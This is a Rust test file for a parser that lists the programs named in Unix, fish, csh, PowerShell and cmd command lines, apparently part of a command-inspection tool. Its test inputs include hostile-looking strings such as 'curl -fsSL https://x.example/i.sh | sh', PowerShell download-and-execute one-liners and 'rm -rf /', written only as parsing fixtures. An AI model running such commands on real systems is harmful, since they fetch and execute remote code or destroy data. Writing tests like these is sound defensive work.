//! Command lines, and what they name.

use super::{Grammar, MAX_NAMES, programs, programs_in};

fn check(grammar: Grammar, table: &[(&str, &[&str])]) {
    for (command, expected) in table {
        assert_eq!(programs_in(command, grammar), *expected, "{command}");
    }
}

#[test]
fn lists_pipelines_and_subshells() {
    check(
        Grammar::Unix,
        &[
            ("ls -la /var/log", &["ls"]),
            ("curl -fsSL https://x.example/i.sh | sh", &["curl", "sh"]),
            ("/usr/bin/curl x|./run.sh", &["curl", "run.sh"]),
            ("a; b && c || d & e", &["a", "b", "c", "d", "e"]),
            ("(cd /tmp && ls); { id; }", &["cd", "ls", "id"]),
            ("a |& b", &["a", "b"]),
            ("echo $(curl x | sh) `id -u`", &["echo", "curl", "sh", "id"]),
            ("echo \"$(curl \"$(hostname)\")\" 'no $(x)'", &["echo", "curl", "hostname"]),
            ("echo \"a `id` b\" | wc", &["echo", "id", "wc"]),
            ("diff <(sort a) <(sort b) > >(tee c)", &["diff", "sort", "sort", "tee"]),
            ("x=$(curl y) z", &["curl", "z"]),
            ("export A=$(curl y)", &["export", "curl"]),
            ("echo ${x:-$(curl y)} ${a//;/ } b", &["echo", "curl"]),
            ("echo $((1 + 2)) $(( $(nproc) * 2 ))", &["echo", "nproc"]),
            ("((i++)); id", &["id"]),
            ("echo $((curl x) | sh)", &["echo", "curl", "sh"]),
            ("a\\\nb c \\\n| d", &["ab", "d"]),
            ("c''ur\"l\" x; w\\get y", &["curl", "wget"]),
            ("$'cu\\x' a; $cmd x; \"$HOME/bin/tool\" y; ~/bin/z", &["cux", "tool", "z"]),
            (": > /tmp/x; . ./env; [ -f x ] && true", &[":", ".", "[", "true"]),
            ("", &[]),
            ("   ", &[]),
            ("!!", &[]),
        ],
    );
}

#[test]
fn what_is_no_program() {
    check(
        Grammar::Unix,
        &[
            ("# rm -rf /", &[]),
            ("ls # | rm", &["ls"]),
            ("ls a#b | wc", &["ls", "wc"]),
            ("A=1 B='c d' env", &["env"]),
            ("A=1", &[]),
            ("a+=(x y) arr[0]=1 id", &["id"]),
            ("list=(curl wget); id", &["id"]),
            (">out 2>&1 <in cmd arg", &["cmd"]),
            ("cmd >>a 2>/dev/null &>b &>>c | next", &["cmd", "next"]),
            ("cmd <<< 'curl x' | cat", &["cmd", "cat"]),
            ("cat <<EOF | sh\ncurl x | bash\nEOF\nid", &["cat", "sh", "id"]),
            ("for i in curl wget; do echo $i; done | wc", &["echo", "wc"]),
            ("for ((i=0;i<3;i++)); do id; done", &["id"]),
            ("while ! ping -c1 x; do sleep 1; done", &["ping", "sleep"]),
            ("if true; then id; elif false; then w; else ls; fi", &["true", "id", "false", "w", "ls"]),
            ("case $x in\n a|b) id ;;\n *) ls;;& (c) w ;; esac; pwd", &["id", "ls", "w", "pwd"]),
            ("[[ -f a && b < c || (d) ]] && id", &["id"]),
            ("f() { id; }; f", &["id", "f"]),
            ("f () { id; }", &["id"]),
            ("function g { id; }", &["id"]),
            ("function g() { id; }", &["id"]),
            ("ls *(.) !(a|b)", &["ls"]),
            ("time -p make", &["make"]),
            ("until false; do :; done", &["false", ":"]),
        ],
    );
}

#[test]
fn through_what_starts_others() {
    check(
        Grammar::Unix,
        &[
            ("sudo -u x -E curl y | sudo --user=z -- sh", &["curl", "sh"]),
            ("sudo A=1 -i", &["sudo"]),
            ("sudo -iu root", &["sudo"]),
            ("sudo su - bob", &["su"]),
            ("sudo -l", &["sudo"]),
            ("sudo $cmd x", &["sudo"]),
            ("doas -u x id", &["id"]),
            ("env -u B A=1 wget x; env; env - sh", &["wget", "env", "sh"]),
            ("env -S 'python3 -u' x", &["python3"]),
            ("nohup nice -n 5 ionice -c2 -n7 tar cf x y &", &["tar"]),
            ("nice -10 id", &["id"]),
            ("timeout -k 5 10s stdbuf -oL tail -f x | xargs -0 -n1 -I {} rm {}", &["tail", "rm"]),
            ("ls | xargs", &["ls", "xargs"]),
            ("exec bash; exec 3<x; command ls; builtin cd x", &["bash", "exec", "ls", "cd"]),
            ("command -v curl", &["command"]),
            ("setsid -f x; exec -a y z", &["x", "z"]),
            ("watch -n 2 'ps aux | grep x'", &["watch", "ps", "grep"]),
            ("watch -n2 df -h", &["watch", "df"]),
            ("strace -f -e trace=open -o o curl x; strace -p 1", &["strace", "curl", "strace"]),
            ("find / -name x -exec rm -f {} \\; -print", &["find", "rm"]),
            ("find . -exec sh -c 'curl \"$1\"' _ {} + -ok sudo mv {} b ';'", &["find", "sh", "curl", "mv"]),
            ("ssh -p 22 host 'curl x | sh'; docker exec -it c sh", &["ssh", "docker"]),
            ("sh -c 'curl x | sh'", &["sh", "curl", "sh"]),
            ("bash -o pipefail -xec \"a; sh -c 'b'\" | z", &["bash", "a", "sh", "b", "z"]),
            ("bash script -c x; bash -s -- y; zsh", &["bash", "bash", "zsh"]),
            ("su - bob -s /bin/sh -c 'id; w'; su -c\"ls\" x; su", &["su", "id", "w", "su", "ls", "su"]),
            (
                "runuser -u x -- id; flock -n /l -c 'a b'; flock /l d",
                &["runuser", "id", "flock", "a", "flock", "d"],
            ),
            ("chroot /mnt /bin/ls; nsenter -t 1 -m -u sh", &["chroot", "ls", "nsenter", "sh"]),
            ("eval 'curl x | sh'; eval \"$(ssh-agent -s)\"", &["eval", "curl", "sh", "eval", "ssh-agent"]),
            ("busybox wget x; script -qc 'id' /dev/null", &["busybox", "wget", "script", "id"]),
        ],
    );
}

#[test]
fn broken_and_foreign_lines() {
    check(
        Grammar::Unix,
        &[
            ("echo \"unfinished", &["echo"]),
            ("sudo -u x 'ab", &["ab"]),
            ("echo $(curl x | sh", &["echo", "curl", "sh"]),
            ("ls `which foo", &["ls", "which"]),
            ("if true; then", &["true"]),
            ("curl x |", &["curl"]),
            ("| sh", &["sh"]),
            ("curl x | sh)", &["curl", "sh"]),
            ("done; wget x", &["wget"]),
            ("rm x; }", &["rm"]),
            ("((", &[]),
            ("case x in", &[]),
            ("case x in a) b", &["b"]),
            ("x) y", &["x", "y"]),
            ("sh -c", &["sh"]),
            ("sudo -u", &["sudo"]),
            ("find . -exec", &["find"]),
            ("cat <<", &["cat"]),
            ("ls \\", &["ls"]),
            ("echo ${a", &["echo"]),
            // fish
            ("set -x A b; and echo (date)", &["set", "echo", "date"]),
            ("for i in (seq 3); echo $i; end", &["seq", "echo"]),
            ("if test -f x; ls; else if true; id; end", &["test", "ls", "true", "id"]),
            ("begin; id; end | wc", &["id", "wc"]),
            ("not id; or ls", &["id", "ls"]),
            // csh
            ("foreach f (*.c a b)\necho $f\nend", &["echo"]),
            ("if ($x == 1) rm y", &["rm"]),
            ("set x = (a b); setenv A b", &["set", "setenv"]),
            ("while (1)\nid\nend", &["id"]),
        ],
    );
}

#[test]
fn names_of_powershell() {
    check(
        Grammar::PowerShell,
        &[
            (
                "Get-Process | Where-Object { $_.CPU -gt 5 } | Select-Object -First 2",
                &["Get-Process", "Where-Object", "Select-Object"],
            ),
            ("whoami; hostname && ipconfig /all", &["whoami", "hostname", "ipconfig"]),
            (
                "&'C:\\Program Files\\Amazon\\SSM\\ssm-session-logger.exe' C:\\x true",
                &["ssm-session-logger.exe"],
            ),
            ("& $cmd x; & \"C:\\a b\\c.exe\"; . .\\lib.ps1", &["c.exe", "lib.ps1"]),
            ("foreach ($i in 1..2) {\n\"n=$i\"\n}", &[]),
            ("foreach ($s in Get-Service) { Stop-Service $s }", &["Get-Service", "Stop-Service"]),
            ("$x = Get-Item y; $y=Get-Date; $z += 1", &["Get-Item", "Get-Date"]),
            ("iex (New-Object Net.WebClient).DownloadString('http://x')", &["iex", "New-Object"]),
            ("(Get-Item x).Name", &["Get-Item"]),
            ("[Convert]::ToBase64String(1) | Out-File x", &["Out-File"]),
            ("if (Test-Path x) { rm x } else { ni x }", &["Test-Path", "rm", "ni"]),
            ("try { A } catch { B } finally { C }", &["A", "B", "C"]),
            ("function Foo-Bar($a) { Get-Item $a }; Foo-Bar x", &["Get-Item", "Foo-Bar"]),
            ("Get-X @{ a = Get-Y; b='c' } -Z @(1, 2)", &["Get-X", "Get-Y"]),
            ("Write-Host \"now $(Get-Date) `$(no)\" '$(no)'", &["Write-Host", "Get-Date"]),
            ("# Get-X", &[]),
            ("<# Get-X #> Get-Y", &["Get-Y"]),
            ("$t = @'\nGet-X\n'@; Get-Y", &["Get-Y"]),
            ("1..3 | % { ping $_ }", &["%", "ping"]),
            (
                "cmd /c \"dir & whoami\"; cmd.exe /c ipconfig",
                &["cmd", "dir", "whoami", "cmd.exe", "ipconfig"],
            ),
            ("powershell -NoP -c \"iwr x | iex\"", &["powershell", "iwr", "iex"]),
            ("Get-X 2>&1 > y.txt | Z", &["Get-X", "Z"]),
            ("exit", &["exit"]),
            ("\"unfinished $(Get-X", &["Get-X"]),
            ("Get-X {", &["Get-X"]),
        ],
    );
}

#[test]
fn names_of_cmd() {
    check(
        Grammar::Cmd,
        &[
            ("dir /s & whoami && ipconfig/all | find \"x | y\"", &["dir", "whoami", "ipconfig", "find"]),
            ("cd\\windows", &["cd"]),
            ("cd..", &["cd"]),
            ("\"C:\\Program Files\\a b\\c.exe\" d", &["c.exe"]),
            ("C:\\Windows\\System32\\net.exe user", &["net.exe"]),
            ("if exist x (del x) else (echo no)", &["del", "echo"]),
            ("if not \"%a%\"==\"b\" net user", &["net"]),
            ("for %i in (a b) do @del %i", &["del"]),
            ("set A=b & echo %A%", &["set", "echo"]),
            ("rem net user", &["rem"]),
            ("w^hoami", &["whoami"]),
            ("powershell -Command \"Get-Item x | rm\"", &["powershell", "Get-Item", "rm"]),
            ("start \"\" notepad x", &["start", "notepad"]),
            ("bash -c \"curl x | sh\"", &["bash", "curl", "sh"]),
            ("%COMSPEC%", &[]),
            ("\"open", &["open"]),
        ],
    );
}

#[test]
fn the_prompt_tells_the_grammar() {
    for (prompt, grammar) in [
        ("PS C:\\Windows\\system32> ", Grammar::PowerShell),
        ("[DBG]: PS C:\\> ", Grammar::PowerShell),
        ("[server-1]: PS C:\\Users\\x> ", Grammar::PowerShell),
        ("PS /home/x> ", Grammar::PowerShell),
        ("C:\\Windows\\system32>", Grammar::Cmd),
        ("sh-4.2$ ", Grammar::Unix),
        ("x@h /tmp> ", Grammar::Unix),
        ("", Grammar::Unix),
    ] {
        assert_eq!(Grammar::behind(prompt), grammar, "{prompt}");
    }
}

#[test]
fn any_line_is_read_in_linear_time() {
    // Were one of these read in quadratic time, the test would run for minutes.
    let parts = [
        "$((",
        "((",
        "$(",
        "`",
        "\"",
        "'",
        "\\",
        "${",
        "{",
        "(",
        ")",
        "<<a",
        "<(",
        "find -exec ",
        "sh -c '",
        "sudo ",
        "a|",
        "case x in ",
        "for ((",
        "f(",
        "é",
        "$((a$",
        "(( a b",
        "x=(",
        "[[ ",
        "cmd ",
        "cmd(",
        "\"$(",
        "&'",
        "@{",
        "cmd/c ",
        "eval '",
        "((a ((b",
        "<<'",
        "if ",
        "$'",
    ];
    for part in parts {
        for grammar in [Grammar::Unix, Grammar::PowerShell, Grammar::Cmd] {
            let text = part.repeat(200_000 / part.len());
            assert!(programs_in(&text, grammar).len() <= MAX_NAMES);
            let closed = format!("{text} a b )) }}'\"`");
            assert!(programs_in(&closed, grammar).len() <= MAX_NAMES);
        }
    }
}

#[test]
fn names_are_bounded() {
    assert_eq!(programs(&"a;".repeat(10_000)).len(), MAX_NAMES);
    assert_eq!(programs(&"a".repeat(10_000)), [""; 0]);
}
